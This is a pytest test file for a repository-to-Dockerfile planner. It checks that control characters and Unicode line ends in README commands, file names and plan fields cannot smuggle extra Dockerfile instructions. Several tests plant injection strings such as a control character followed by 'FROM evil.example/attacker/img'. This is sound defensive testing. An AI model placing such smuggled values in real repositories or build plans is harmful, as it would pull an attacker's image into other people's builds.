"""Unicode line ends and control characters stay out of plans, by the planner's own choice."""

import re
import shutil
from datetime import date
from pathlib import Path

import pytest
from pydantic import ValidationError

from paper2run.detectors import read_facts
from paper2run.formats.tree import RepoTree
from paper2run.model.environment import Asked, EnvPlan, PlannedEnvironment, Reason
from paper2run.model.facts import Unreadable
from paper2run.model.repo import Checkout
from paper2run.model.value import Source
from paper2run.planners import rules
from paper2run.planning.evidence import Evidence
from paper2run.rendering.dockerfile import dockerfile
from paper2run.rendering.injection import base_images

SITUATIONS = Path(__file__).parents[1] / "repos"
CASES = [path for path in sorted(SITUATIONS.iterdir()) if (path / "repo").is_dir()]
CHARACTERS = "\v\f\x1b\x1c\x1d\x1e\x7f\x85\x9b\u2028\u2029\u202e"
COMMIT = "1" * 40
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]")
WORD = re.compile(r"[A-Za-z_][\w.-]{2,}")


def plan(folder: Path) -> tuple[PlannedEnvironment | None, list[str]]:
    """Return the plan by rules, and the paths that are said to be unreadable."""
    tree = RepoTree.of(folder)
    facts = read_facts(tree)
    asked = Asked(name="o/n", commit=COMMIT, commit_day=date(2020, 1, 1))
    planned = rules.plan(Evidence(facts, frozenset(tree.files), asked))
    unreadable = [fact.path for fact in facts.of(Unreadable)]
    return planned if isinstance(planned, PlannedEnvironment) else None, unreadable


def rendered(planned: PlannedEnvironment) -> str:
    return dockerfile(Checkout(url="", name="o/n", commit=COMMIT, mirror=""), planned)


@pytest.mark.parametrize("character", CHARACTERS)
def test_a_documented_command_with_a_control_character_is_no_candidate(
    tmp_path: Path, character: str
) -> None:
    (tmp_path / "main.py").write_text('print("hello")\n')
    (tmp_path / "README.md").write_text(
        f'# Usage\n\n```\npython main.py "x{character}FROM evil.example/attacker/img b"\n```\n'
    )
    planned, _ = plan(tmp_path)
    assert planned is not None
    text = rendered(planned)
    assert "evil.example" not in text
    assert base_images(text) == (planned.plan.base_image,)


def test_a_tab_between_the_words_of_a_documented_command_is_a_blank(tmp_path: Path) -> None:
    (tmp_path / "main.py").write_text('print("hello")\n')
    (tmp_path / "README.md").write_text("# Usage\n\n```\npython\tmain.py\t3\n```\n")
    planned, _ = plan(tmp_path)
    assert planned is not None
    assert planned.plan.smoke_command == "python main.py 3"


@pytest.mark.parametrize("place", range(3))
@pytest.mark.parametrize("character", ["\x1b", "\x85", "\u2028"])
def test_no_manifest_or_document_brings_a_line_end_into_a_plan(
    tmp_path: Path, character: str, place: int
) -> None:
    for case in CASES:
        folder = tmp_path / case.name
        shutil.copytree(case / "repo", folder, symlinks=True)
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink():
                plant(path, f"{character}FROM evil.example/x b", place)
        planned, _ = plan(folder)
        if planned is not None:
            assert not CONTROL.search(rendered(planned)), case.name


def plant(path: Path, words: str, place: int) -> None:
    """Put `words` behind every third word of a file."""
    try:
        text = path.read_text()
    except UnicodeDecodeError:
        return
    parts = [
        text[match.start() : match.end()] + (words if number % 3 == place else "")
        for number, match in enumerate(WORD.finditer(text))
    ]
    gaps = WORD.split(text)
    path.write_text("".join(gap + part for gap, part in zip(gaps, [*parts, ""], strict=True)))


@pytest.mark.parametrize("character", [*CHARACTERS, "\n", "\t", "\r"])
def test_a_file_whose_name_no_command_may_hold_is_listed_and_not_planned_with(
    tmp_path: Path, character: str
) -> None:
    folder = tmp_path / f"a{character}FROM evil b"
    folder.mkdir()
    (folder / "setup.py").write_text("from setuptools import setup\nsetup(name='a')\n")
    (tmp_path / "main.py").write_text("print(1)\n")
    planned, unreadable = plan(tmp_path)
    assert planned is not None
    assert "evil" not in rendered(planned)
    [name] = unreadable
    assert "FROM evil b/setup.py" in name
    assert not CONTROL.search(name)
    assert "\n" not in name


@pytest.mark.parametrize("character", [*CHARACTERS, "\n", "\t", "\r", "\0", "\ud800"])
@pytest.mark.parametrize("field", ["step", "smoke", "env"])
def test_no_text_of_a_plan_holds_a_control_character(character: str, field: str) -> None:
    text = f"python main.py a{character}b"
    fields = {
        "step": {"install_steps": (text,), "smoke_command": "make"},
        "smoke": {"smoke_command": text},
        "env": {"env": {"A": text}, "smoke_command": "make"},
    }[field]
    with pytest.raises(ValidationError, match=r"must be one line|unicode"):
        EnvPlan.model_validate({"base_image": "python:3.11-slim", **fields})


def test_a_reason_stays_in_its_comment() -> None:
    source = Source(kind="file", path="a\u2028FROM x", line=1, note="b\x1b[2J\x85c")
    reason = Reason(topic="python", decision="3.11\nFROM y\u2029z", source=source)
    planned = PlannedEnvironment(
        plan=EnvPlan(base_image="python:3.11-slim", smoke_command="make"),
        planner="model:x\u2028FROM q",
        reasons=(reason,),
    )
    text = rendered(planned)
    assert not CONTROL.search(text)
    assert base_images(text) == ("python:3.11-slim",)
    assert [line.split()[0] for line in text.splitlines()][:3] == ["#", "#", "FROM"]


@pytest.mark.parametrize(
    "text", ["python main.py 'größe' 日本語 🦆", "make -j2 CFLAGS='-O2 -g'", "echo a\\ b"]
)
def test_ordinary_commands_of_any_script_pass(text: str) -> None:
    assert EnvPlan(base_image="python:3.11-slim", smoke_command=text).smoke_command == text
